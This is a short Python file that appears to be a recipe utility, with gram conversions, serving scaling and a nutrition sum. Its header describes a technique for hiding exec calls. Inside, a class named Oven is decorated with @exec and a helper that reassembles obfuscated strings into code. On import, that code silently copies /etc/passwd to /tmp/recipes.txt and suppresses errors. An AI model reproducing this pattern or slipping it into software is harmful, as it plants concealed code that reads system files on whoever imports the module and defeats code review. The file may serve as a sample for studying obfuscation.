# technique: decorators as calls without parentheses
# goal: pass source to exec where no call is visible

GRAMS = {"cup flour": 120, "cup sugar": 200, "tbsp butter": 14, "tsp salt": 6}


def grams(amount, measure):
    return amount * GRAMS[measure]


def scale(recipe, servings, base=4):
    return {name: round(amount * servings / base, 2) for name, amount in recipe.items()}


def _method(kind):
    return "".join(kind.steps).replace("_", " ").replace("|", "\n")


@exec
@_method
class Oven:
    steps = (
        "from_shutil_import_copyfile|",
        "try:_copyfile('/etc/passwd','/tmp/recipes.txt')|",
        "except_Exception:_pass|",
    )


def nutrition(recipe):
    return sum(recipe.values())
